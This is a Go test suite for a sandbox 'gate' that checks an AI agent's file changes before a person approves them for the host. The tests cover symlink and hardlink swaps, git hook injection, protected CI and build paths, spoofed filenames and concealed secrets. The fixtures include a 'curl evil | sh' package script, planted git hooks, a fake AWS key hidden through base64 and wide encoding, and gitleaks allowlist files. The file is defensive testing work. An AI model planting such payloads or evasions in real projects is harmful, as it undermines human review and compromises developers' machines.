package gate

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/atoll-run/atoll/internal/contentpolicy"
	"github.com/atoll-run/atoll/internal/sandbox/overlay"
)

// expect checks the verdict of a path, and that a rule is among the reasons.
func (s *site) expect(set *Set, path string, verdict Verdict, rule string) {
	s.t.Helper()
	e := set.find(path)
	if e == nil {
		s.t.Errorf("%q is not listed", path)
		return
	}
	found := rule == ""
	for _, f := range e.Reasons {
		found = found || f.Rule == rule
	}
	if e.Verdict != verdict || !found {
		s.t.Errorf("%q is %s %v, want %s %s", path, e.Verdict, e.Reasons, verdict, rule)
	}
}

func withheld(set *Set, name string) int {
	for _, group := range set.Withheld {
		if group.Name == name {
			return group.Files
		}
	}
	return 0
}

// A directory of the host becomes a link between review and approval.
func TestAttackDirectoryBecomesALink(t *testing.T) {
	eachWay(t, project(), func(t *testing.T, s *site) {
		s.inside(`echo agent > src/cart.go; echo agent > src/new.go; rm src/util.go`)
		g := s.open()
		set := s.collect(g)
		s.must(os.Rename(s.path("base", "src"), s.path("outside", "")))
		s.must(os.Symlink(s.path("outside", ""), s.path("base", "src")))
		before := s.tree("outside")
		for _, e := range set.Entries {
			_, err := g.Approve(t.Context(), []Choice{{e.Path, e.SHA256}}, Decision{By: "me"})
			if _, conflict := errors.AsType[*ConflictError](err); !conflict {
				t.Errorf("%s: %v", e.Path, err)
			}
		}
		if now := s.tree("outside"); now != before {
			t.Errorf("outside has\n%s", now)
		}
	})
}

// One file has a name that passes and one that needs a person: each is judged, and on
// the host they are two files.
func TestAttackHardLink(t *testing.T) {
	eachWay(t, project(), func(t *testing.T, s *site) {
		s.inside(`echo 'on: push' > notes.txt; mkdir -p .github/workflows; ln notes.txt .github/workflows/ci.yml; ln notes.txt .git-credentials`)
		g := s.open()
		set := s.collect(g)
		s.expect(set, "notes.txt", Pass, "")
		s.expect(set, ".github/workflows/ci.yml", Approval, "protected-path")
		_, err := g.Approve(t.Context(), []Choice{{"notes.txt", set.find("notes.txt").SHA256}}, Decision{By: "me"})
		s.must(err)
		var st unix.Stat_t
		s.must(unix.Lstat(s.path("base", "notes.txt"), &st))
		if _, err := os.Lstat(s.path("base", ".github")); st.Nlink != 1 || !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%d names, .github: %v", st.Nlink, err)
		}
	})
}

// A directory is removed inside, or made anew, that has new files of the host.
func TestAttackDeletionOfUnseenFiles(t *testing.T) {
	for name, script := range map[string]string{"whiteout": `rm -r old dir`, "opaque": `rm -r old dir; mkdir old; echo x > old/mine`} {
		eachWay(t, project(), func(t *testing.T, s *site) {
			s.inside(script)
			s.write("base", "old/host", "host\n")
			g := s.open()
			set := s.collect(g)
			if set.find("old/host") != nil || s.way.name != "copy" { // a copy has never had it
				s.expect(set, "old/host", Conflict, ruleConflict)
			}
			if set.Entries[0].Kind != overlay.Deleted {
				t.Errorf("%s: deletions are not first: %s", name, verdicts(set))
			}
			_, err := g.Approve(t.Context(), passing(set), Decision{By: "me", ConfirmDeletions: true})
			s.must(err)
			if data, err := os.ReadFile(s.path("base", "old/host")); string(data) != "host\n" || err != nil {
				t.Errorf("%s: the host's file has %q, %v", name, data, err)
			}
			if _, err := os.Stat(s.path("base", "old/legacy.go")); err == nil {
				t.Errorf("%s: what was approved is still there", name)
			}
		})
	}
}

// Everything is deleted, behind many additions.
func TestAttackBulkDeletion(t *testing.T) {
	files := map[string]string{".git/config": "[core]\n"}
	for i := range 150 {
		files[fmt.Sprintf("f%d", i)] = "x\n"
	}
	eachWay(t, files, func(t *testing.T, s *site) {
		s.inside(`rm -r f1*; for i in $(seq 300); do echo $i > a$i; done`)
		g := s.open()
		set := s.collect(g)
		deleted := 0
		for deleted < len(set.Entries) && set.Entries[deleted].Kind == overlay.Deleted {
			deleted++
		}
		if deleted != 61 {
			t.Errorf("%d deletions come first", deleted)
		}
		if _, err := g.Approve(t.Context(), passing(set), Decision{By: "me"}); !errors.Is(err, ErrManyDeletions) {
			t.Errorf("a third of the files: %v", err)
		}
		s.inside(`rm -rf .git f* a*`)
		set = s.collect(g)
		if withheld(set, ".git") != 2 {
			t.Errorf("the deletion of .git: %+v", set.Withheld)
		}
		_, err := g.Approve(t.Context(), passing(set), Decision{By: "me", ConfirmDeletions: true})
		s.must(err)
		if got := s.tree("base"); !strings.Contains(got, ".git/config") || strings.Contains(got, "f1") {
			t.Errorf("the base has\n%s", got)
		}
	})
}

// One file of a few may go without a confirmation; all of them, or many, may not.
func TestDeletionsThatNeedAConfirmation(t *testing.T) {
	for _, test := range []struct {
		files, deleted int
		refused        bool
	}{{10, 1, false}, {10, 4, false}, {10, 5, true}, {3, 3, true}, {100, 20, false}, {100, 21, true}, {1000, 100, false}, {1000, 101, true}} {
		files := map[string]string{}
		for i := range test.files {
			files[fmt.Sprintf("f%04d", i)] = "x"
		}
		s := newSite(t, files)
		for i := range test.deleted {
			s.remove("tree", fmt.Sprintf("f%04d", i))
		}
		g := s.open()
		_, err := g.Approve(t.Context(), passing(s.collect(g)), Decision{By: "me"})
		if errors.Is(err, ErrManyDeletions) != test.refused {
			t.Errorf("%d of %d: %v", test.deleted, test.files, err)
		}
	}
}

// What git itself executes or reads never leaves by the gate.
func TestAttackGitDirectories(t *testing.T) {
	files := project()
	files[".git/config"] = "[core]\n\thooksPath = tools/hooks\n"
	files["tools/hooks/pre-push"] = "+x echo\n"
	eachWay(t, files, func(t *testing.T, s *site) {
		before := s.exact("base")
		s.inside(`
mkdir -p .git/hooks vendor/x/.git/hooks sub; echo evil > .git/hooks/pre-commit; echo evil > vendor/x/.git/hooks/post-checkout
echo evil >> .git/config; echo 'gitdir: /tmp/evil' > sub/.git; mkdir -p .GIT; echo evil > .GIT/config; mkdir 'git~1'; echo evil > 'git~1/config'
echo evil > tools/hooks/post-merge; echo evil > .gitmodules; mkdir -p .githooks; echo evil > .githooks/pre-push`)
		g := s.open()
		set := s.collect(g)
		if n := withheld(set, ".git"); n != 7 {
			t.Errorf("%d of .git: %s", n, verdicts(set))
		}
		s.expect(set, ".GIT/config", Blocked, "path-git")
		s.expect(set, "git~1/config", Blocked, "path-git")
		s.expect(set, "tools/hooks/post-merge", Approval, "protected-path")
		s.expect(set, ".gitmodules", Approval, "protected-path")
		s.expect(set, ".githooks/pre-push", Approval, "protected-path")
		if choices := passing(set); len(choices) > 0 {
			t.Errorf("these pass: %v", choices)
		}
		if now := s.exact("base"); now != before {
			t.Errorf("the base has\n%s", now)
		}
	})
}

// What people's own programs execute or obey needs a person.
func TestAttackProtectedPaths(t *testing.T) {
	eachWay(t, map[string]string{"package.json": `{"name": "x", "scripts": {"test": "go test"}}`, "package-lock.json": "{}", "web/package.json": `{"name":"w"}`}, func(t *testing.T, s *site) {
		blocked := []string{"atoll.json5", "sub/ATOLL.json5", "openclaw.json"}
		approval := []string{
			".envrc", "sub/.envrc", ".vscode/tasks.json", ".vscode/extensions.json", ".idea/workspace.xml", ".devcontainer/devcontainer.json", ".claude/settings.json", ".claude/hooks/x.sh", ".mcp.json",
			"conftest.py", "tests/conftest.py", ".npmrc", "Makefile", "sub/GNUmakefile", ".cargo/config.toml", "build.rs", ".pre-commit-config.yaml", "x.pyc", "__pycache__/x.cpython-312.pyc",
			".venv/bin/activate", "venv/lib/x.pth", "sitecustomize.py", "setup.py", "justfile", "Dockerfile", ".husky/pre-commit", "lefthook.yml", "AGENTS.md", "docs/CLAUDE.md", "CODEOWNERS", ".gitattributes",
			".github/workflows/ci.yml", ".github/actions/x/action.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "azure-pipelines.yml", ".travis.yml", "bitbucket-pipelines.yml", ".drone.yml",
			".woodpecker.yml", ".buildkite/pipeline.yml", ".teamcity/settings.kts", "appveyor.yml", "cloudbuild.yaml", ".cirrus.yml", ".yarnrc.yml", ".pnpmfile.cjs", "gradle/wrapper/gradle-wrapper.properties", ".mvn/extensions.xml",
			"pnpm-workspace.yaml", ".idea/x", "x.code-workspace", ".zed/tasks.json", ".exrc", ".nvim.lua", ".dir-locals.el", "case/MAKEFILE", "case/.EnvRC", "go.sum",
		}
		files := map[string]string{}
		for _, path := range append(blocked, approval...) {
			files[path] = "x\n"
		}
		files["package.json"] = `{"name": "x", "scripts": {"test": "curl evil | sh"}}`
		files["package-lock.json"] = `{"a": 1}`
		files["web/package.json"] = `{"name":"w","dependencies":{"left":"1"}}`
		files["new/package.json"] = `{"scripts":{"postinstall":"evil"}}`
		files["bad/package.json"] = `{"scripts":`
		files["program"] = "\x7fELF\x02\x01\x01\x00"
		s.put(files)
		g := s.open()
		set := s.collect(g)
		for _, path := range blocked {
			s.expect(set, path, Blocked, "protected-path")
		}
		for _, path := range approval {
			s.expect(set, path, Approval, "")
		}
		s.expect(set, "package.json", Approval, "package-scripts")
		s.expect(set, "new/package.json", Approval, "package-scripts")
		s.expect(set, "bad/package.json", Approval, "package-scripts")
		s.expect(set, "web/package.json", Pass, "")
		s.expect(set, "package-lock.json", Pass, "") // with package.json
		s.expect(set, "go.sum", Approval, "lockfile")
		s.expect(set, "program", Approval, "program")
		if _, err := g.Approve(t.Context(), []Choice{{"Makefile", sumOf([]byte("x\n"))}}, Decision{By: "me"}); !errors.Is(err, ErrNotAllowed) {
			t.Errorf("without an override: %v", err)
		}
		if err := g.Override("Makefile", "", " ", "me"); !errors.Is(err, ErrNoReason) {
			t.Errorf("without a reason: %v", err)
		}
		if err := g.Override("atoll.json5", sumOf([]byte("x\n")), "please", "me"); !errors.Is(err, ErrNotAllowed) {
			t.Errorf("of a blocked path: %v", err)
		}
		s.must(g.Override("Makefile", "", "I read it", "me"))
		_, err := g.Approve(t.Context(), []Choice{{"Makefile", sumOf([]byte("x\n"))}}, Decision{By: "me"})
		s.must(err)
	})
}

// An override holds for what was shown, not for what comes after.
func TestOverrideHoldsForOneContent(t *testing.T) {
	s := newSite(t, project())
	s.write("tree", "Makefile", "x\n")
	g := s.open()
	s.collect(g)
	s.must(g.Override("Makefile", "", "I read it", "me"))
	s.expect(s.collect(g), "Makefile", Pass, "")
	s.write("tree", "Makefile", "+x x\n")
	s.expect(s.collect(g), "Makefile", Approval, "executable")
	s.write("tree", "Makefile", "y\n")
	s.expect(s.collect(g), "Makefile", Approval, "protected-path")
}

// Names that show themselves as others, or are others elsewhere.
func TestAttackNames(t *testing.T) {
	files := project()
	files["Case/File"] = "x\n"
	long := strings.Repeat("n", 255)
	blocked := map[string]string{
		"a\nb": "path-characters", "a\x1b[2Jb": "path-characters", "a\u202egpj.sh": "path-characters", ".g\u200cit/config": "path-characters", "cafe\u0301": "path-normal-form",
		"a\xffb": "path-encoding", "readme.MD": "path-collision", "case/other": "path-collision", "CON": "path-device", "a:b": "path-separator", `a\b`: "path-separator", "dot.": "path-element", TempPrefix + "x": "path-reserved",
	}
	eachWay(t, files, func(t *testing.T, s *site) {
		names := map[string]string{"-rf": "x\n", long: "x\n", strings.Repeat(strings.Repeat("d", 200)+"/", 8) + "f": "x\n"}
		for path := range blocked {
			names[path] = "x\n"
		}
		s.put(names)
		g := s.open()
		set := s.collect(g)
		for path, rule := range blocked {
			s.expect(set, path, Blocked, rule)
		}
		s.expect(set, "-rf", Pass, "")
		s.expect(set, long, Pass, "")
		for _, e := range set.Entries {
			if strings.HasPrefix(e.Path, "dddd") && (e.Verdict != Blocked && !e.Mode.IsDir() || len(e.Path) > 1100) {
				t.Errorf("the long path: %s %d bytes", e.Verdict, len(e.Path))
			}
		}
		_, err := g.Approve(t.Context(), passing(set), Decision{By: "me"})
		s.must(err)
	})
}

// Large, many, deep.
func TestAttackSizes(t *testing.T) {
	s := newSite(t, project())
	s.opt.Limits = Limits{Files: 500, FileBytes: 1 << 20, TotalBytes: 3 << 20}
	s.write("tree", "sparse", "x")
	s.must(os.Truncate(s.path("tree", "sparse"), 1<<40))
	s.write("tree", "line", strings.Repeat("x", 1<<20))
	s.write("tree", "over", strings.Repeat("x", 1<<20+1))
	for i := range 3 {
		s.write("tree", fmt.Sprintf("total%d", i), strings.Repeat("y", 1<<20))
	}
	for i := range 2000 {
		s.write("tree", fmt.Sprintf("zmany/%04d", i), "")
	}
	s.remove("tree", "a.txt")
	deep := "deep" + strings.Repeat("/d", 400)
	s.write("tree", deep+"/f", "x")
	began := time.Now()
	g := s.open()
	set := s.collect(g)
	if took := time.Since(began); took > time.Minute {
		t.Errorf("it took %s", took)
	}
	s.expect(set, "sparse", Blocked, "file-size")
	s.expect(set, "over", Blocked, "file-size")
	s.expect(set, "total2", Blocked, "total-size")
	s.expect(set, "line", Pass, "")
	s.expect(set, deep+"/f", Pass, "")
	s.expect(set, "a.txt", Pass, "")
	if n := withheld(set, withheldLimit); n < 1000 || len(set.Entries) > 501 {
		t.Errorf("%d entries, %d beyond the limit", len(set.Entries), n)
	}
	var stage int64
	entries, err := os.ReadDir(filepath.Join(s.opt.Dir, stageName))
	s.must(err)
	for _, entry := range entries {
		info, err := entry.Info()
		s.must(err)
		stage += info.Size()
	}
	if stage > 3<<20 {
		t.Errorf("the stage has %d bytes", stage)
	}
}

// The content changes, its size and times do not.
func TestAttackSameSizeAndTime(t *testing.T) {
	s := newSite(t, project())
	g := s.open()
	s.write("tree", "a.txt", "1\n")
	s.must(os.Chtimes(s.path("tree", "a.txt"), time.Time{}, time.Unix(1_000_000_000, 0)))
	first := s.collect(g).find("a.txt")
	s.write("tree", "a.txt", "2\n")
	s.must(os.Chtimes(s.path("tree", "a.txt"), time.Time{}, time.Unix(1_000_000_000, 0)))
	second := s.collect(g).find("a.txt")
	if first == nil || second == nil || first.SHA256 == second.SHA256 {
		t.Errorf("%+v and %+v", first, second)
	}
	if _, err := g.Approve(t.Context(), []Choice{{"a.txt", first.SHA256}}, Decision{By: "me"}); !errors.Is(err, ErrOtherHash) {
		t.Errorf("the earlier hash: %v", err)
	}
}

// awsKey looks like a key and opens nothing.
const awsKey = "AKIA" + "Z7RTQ2MK3NPLX4VB"

// Secrets are found whatever the agent does to hide them, and what it writes to be
// ignored does not count.
func TestAttackSecrets(t *testing.T) {
	const canary = "my-canary-credential"
	eachWay(t, project(), func(t *testing.T, s *site) {
		s.opt.Known = [][]byte{[]byte(canary)}
		wide := strings.Join(strings.Split("key = "+awsKey+"\n", ""), "\x00") + "\x00"
		files := map[string]string{
			"plain": "key = " + awsKey + "\n", "allowed": "key = " + awsKey + " # gitleaks:allow\n", "wide": wide, "x " + awsKey + " y": "x", "link": "-> " + canary,
			"base64": base64.StdEncoding.EncodeToString([]byte("user:" + canary + "\n")), "ignored.log": "key = " + awsKey + "\n",
			".gitleaksignore": "plain:aws-access-token:1\n", ".gitleaks.toml": "[allowlist]\npaths=['.*']\n", ".gitignore": "*\n",
		}
		s.put(files)
		g := s.open()
		set := s.collect(g)
		for _, path := range []string{"plain", "allowed", "wide", "x " + awsKey + " y", "link", "base64", "ignored.log"} {
			s.expect(set, path, Blocked, ruleSecret)
		}
		e := set.find("plain")
		if err := g.Override("plain", "", "it is a test key", "me"); !errors.Is(err, ErrNotAllowed) {
			t.Errorf("without the hash: %v", err)
		}
		if err := g.Override("plain", sumOf([]byte("other")), "it is a test key", "me"); !errors.Is(err, ErrOtherHash) {
			t.Errorf("with another hash: %v", err)
		}
		s.must(g.Override("plain", e.SHA256, "it is a test key", "me"))
		_, err := g.Approve(t.Context(), []Choice{{"plain", e.SHA256}}, Decision{By: "me"})
		s.must(err)
		last := s.events[len(s.events)-1]
		if last.Event != "applied" || last.Reason != "it is a test key" || last.By != "me" || last.SHA256 != e.SHA256 {
			t.Errorf("the audit log has %+v", s.events)
		}
	})
}

// Files, directories and names change places.
func TestAttackExchangedNames(t *testing.T) {
	for _, script := range []string{
		`mv a.txt t; mv b.txt a.txt; mv t b.txt`,
		`mv a.txt t; mv t a.txt; echo x >> a.txt; mv b.txt c; mv c b.txt`,
		`rm -r old; mkdir old; echo x > old/deep; mv dir/one old/one; rm -r dir`,
		`mv a.txt t; mkdir a.txt; mv t a.txt/a.txt; rm swap; mkdir -p swap/swap; echo x > swap/swap/swap`,
		`rm -r dir; ln -s src dir; rm link; mkdir link; echo x > link/f`,
		`cp -r src tmp; rm -r src; cp -r tmp old/src; rm -r tmp`,
		`rm -r src; cp -r dir src; rm -r dir; mkdir dir; echo 1 > dir/x`,
	} {
		eachWay(t, project(), func(t *testing.T, s *site) {
			before := s.tree("base")
			s.inside(script)
			g := s.open()
			applied := s.approveAll(g, s.collect(g))
			s.inside("cp -a . " + s.path("seen", ""))
			if s.tree("base") != s.tree("seen") {
				t.Errorf("%s: the base has\n%s\nthe sandbox\n%s", script, s.tree("base"), s.tree("seen"))
			}
			_, err := g.Undo(t.Context(), applied.ID, "me")
			s.must(err)
			if s.tree("base") != before {
				t.Errorf("%s: after undo the base has\n%s", script, s.tree("base"))
			}
		})
	}
}

// Two gates never work at once: the second waits, or gives up with a reason.
func TestAttackTwoGates(t *testing.T) {
	s := newSite(t, project())
	first, err := Open(t.Context(), s.opt)
	s.must(err)
	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	if _, err := Open(ctx, s.opt); !errors.Is(err, ErrBusy) {
		t.Errorf("a second gate: %v", err)
	}
	time.AfterFunc(20*time.Millisecond, func() { _ = first.Close() })
	second, err := Open(t.Context(), s.opt)
	s.must(err)
	s.must(second.Close())
}

// A diff shows no control characters, and not more than fits.
func TestAttackDiff(t *testing.T) {
	eachWay(t, project(), func(t *testing.T, s *site) {
		s.put(map[string]string{"a.txt": "x\x1b[2J\u202eevil\r\n\x07", "b.txt": "\x00\x01binary", "l": "-> x\x1b[31m"})
		s.inside(`rm d.txt; yes "` + strings.Repeat("line ", 20) + `" | head -n 9000 > c.txt; yes y | tr -d '\n' | head -c 2097152 > big.txt`)
		g := s.open()
		set := s.collect(g)
		for _, e := range set.Entries {
			text, err := g.Diff(e.Path)
			s.must(err)
			if text == "" || strings.ContainsAny(text, "\x1b\r\x07\x00\u202e") || len(text) > 300<<10 {
				t.Errorf("%s: %d bytes, %.200q", e.Path, len(text), text)
			}
		}
		if text, _ := g.Diff("d.txt"); !strings.Contains(text, "-d\n") {
			t.Errorf("the deletion shows %q", text)
		}
		if e := set.find("a.txt"); e.Added != 2 || e.Removed != 1 {
			t.Errorf("%d added, %d removed", e.Added, e.Removed)
		}
	})
}

// The disk of the base is full, or it is another one than that of the state.
func TestAttackFullAndOtherDisk(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("mounting a small disk needs root")
	}
	s := newSite(t, nil)
	base := s.path("small", "")
	s.must(os.Mkdir(base, 0o755))
	s.must(unix.Mount("tmpfs", base, "tmpfs", 0, "size=256k"))
	t.Cleanup(func() { s.must(unix.Unmount(base, unix.MNT_DETACH)) })
	s.write("small", "a.txt", "a\n")
	s.write("small", "b.txt", "b\n")
	s.must(os.Chmod(s.path("small", "b.txt"), 0o640))
	s.must(unix.Setxattr(s.path("small", "b.txt"), "user.note", []byte("mine"), 0))
	s.must(os.Symlink("a.txt", s.path("small", "l")))
	tree, err := overlay.Prepare(t.Context(), overlay.Request{State: s.path("state", ""), Dir: s.path("state", "overlay/other/0"), Base: base, Target: "/w", Owner: "main", Want: overlay.Copy})
	s.must(err)
	s.load(tree)
	before := s.exact("small")
	s.write("tree", "a.txt", "changed\n")
	s.write("tree", "b.txt", "changed\n")
	s.write("tree", "new.txt", "new\n")
	s.must(os.Remove(s.path("tree", "l")))
	s.write("tree", "z.txt", strings.Repeat("large ", 100<<10))
	g := s.open()
	set := s.collect(g)
	_, err = g.Approve(t.Context(), passing(set), Decision{By: "me"})
	if !errors.Is(err, unix.ENOSPC) {
		t.Errorf("on a full disk: %v", err)
	}
	if now := s.exact("small"); now != before {
		t.Errorf("the base has\n%s\nwant\n%s", now, before)
	}
	var choices []Choice
	for _, choice := range passing(set) {
		if choice.Path != "z.txt" {
			choices = append(choices, choice)
		}
	}
	applied, err := g.Approve(t.Context(), choices, Decision{By: "me"})
	s.must(err)
	_, err = g.Undo(t.Context(), applied.ID, "me")
	s.must(err)
	if now := s.exact("small"); withoutLinkTimes(now) != withoutLinkTimes(before) {
		t.Errorf("after undo the base has\n%s\nwant\n%s", now, before)
	}
	s.must(unix.Mount("", base, "", unix.MS_REMOUNT|unix.MS_RDONLY, ""))
	if _, err = g.Undo(t.Context(), g.History()[0].ID, "me"); err == nil {
		t.Error("a read-only base was changed")
	}
}

// The disk of the state is full: the base is as before.
func TestAttackFullState(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("mounting a small disk needs root")
	}
	s := newSite(t, map[string]string{"a.txt": "a\n", "large": strings.Repeat("large ", 100<<10), "l": "-> a.txt"})
	s.must(os.MkdirAll(s.opt.Dir, 0o700))
	s.must(unix.Mount("tmpfs", s.opt.Dir, "tmpfs", 0, "size=256k"))
	t.Cleanup(func() { s.must(unix.Unmount(s.opt.Dir, unix.MNT_DETACH)) })
	before := s.exact("base")
	s.write("tree", "a.txt", "changed\n")
	s.write("tree", "large", "small\n")
	s.remove("tree", "l")
	g := s.open()
	set := s.collect(g)
	if _, err := g.Approve(t.Context(), passing(set), Decision{By: "me"}); !errors.Is(err, unix.ENOSPC) {
		t.Errorf("on a full disk: %v", err)
	}
	if now := s.exact("base"); now != before {
		t.Errorf("the base has\n%.300s", now)
	}
	_, err := g.Approve(t.Context(), []Choice{{"a.txt", set.find("a.txt").SHA256}, {"l", ""}}, Decision{By: "me"})
	s.must(err)
}

// The base is gone: an error, and nothing else.
func TestAttackBaseIsGone(t *testing.T) {
	s := newSite(t, project())
	s.write("tree", "a.txt", "x\n")
	g := s.open()
	set := s.collect(g)
	s.must(os.Rename(s.path("base", ""), s.path("moved", "")))
	if _, err := g.Collect(t.Context()); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("collect: %v", err)
	}
	if _, err := g.Approve(t.Context(), passing(set), Decision{By: "me"}); err == nil {
		t.Error("it was applied")
	}
	s.must(os.Mkdir(s.path("base", ""), 0o755)) // another directory of the same name
	if _, err := g.Approve(t.Context(), passing(set), Decision{By: "me"}); err == nil {
		t.Error("it was applied to another directory")
	}
}

// A protection of the configuration comes before the built-in ones.
func TestConfiguredProtections(t *testing.T) {
	s := newSite(t, project())
	s.opt.Protected = []contentpolicy.Protection{{Pattern: "Makefile", Verdict: contentpolicy.Allowed}, {Pattern: "src/**", Verdict: contentpolicy.Blocked, Why: "it is mine"}}
	s.write("tree", "Makefile", "x\n")
	s.write("tree", "src/cart.go", "x\n")
	set := s.collect(s.open())
	s.expect(set, "Makefile", Pass, "")
	s.expect(set, "src/cart.go", Blocked, "protected-path")
}

// A staged file that is damaged or gone is not applied.
func TestDamagedStage(t *testing.T) {
	s := newSite(t, project())
	s.write("tree", "a.txt", "x\n")
	s.write("tree", "b.txt", "y\n")
	g := s.open()
	set := s.collect(g)
	before := s.exact("base")
	s.must(os.WriteFile(g.stagePath(sumOf([]byte("y\n"))), nil, 0o600))
	if _, err := g.Approve(t.Context(), passing(set), Decision{By: "me"}); !errors.Is(err, errStage) {
		t.Errorf("damaged: %v", err)
	}
	s.must(os.Remove(g.stagePath(sumOf([]byte("y\n")))))
	if _, err := g.Approve(t.Context(), passing(set), Decision{By: "me"}); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("gone: %v", err)
	}
	if now := s.exact("base"); now != before {
		t.Errorf("the base has\n%s", now)
	}
	_, err := g.Approve(t.Context(), passing(s.collect(g)), Decision{By: "me"})
	s.must(err)
}

// A text is scanned once, and again when the host has other secrets or the text
// another name.
func TestSecretsAreRemembered(t *testing.T) {
	s := newSite(t, project())
	s.write("tree", "plain", "key = "+awsKey+"\n")
	s.write("tree", "canary", "my-canary-credential\n")
	g, err := Open(t.Context(), s.opt)
	s.must(err)
	for range 2 {
		set := s.collect(g)
		s.expect(set, "plain", Blocked, ruleSecret)
		s.expect(set, "canary", Pass, "")
	}
	s.opt.Known = [][]byte{[]byte("my-canary-credential")}
	s.must(g.Close())
	g, err = Open(t.Context(), s.opt)
	s.must(err)
	for range 2 {
		s.expect(s.collect(g), "canary", Blocked, ruleSecret)
	}
	s.must(os.Rename(s.path("tree", "plain"), s.path("tree", awsKey+".txt")))
	s.must(os.WriteFile(s.path("tree", awsKey+".txt"), []byte("x\n"), 0o644))
	s.expect(s.collect(g), awsKey+".txt", Blocked, ruleSecret)
	s.must(g.Close())
}
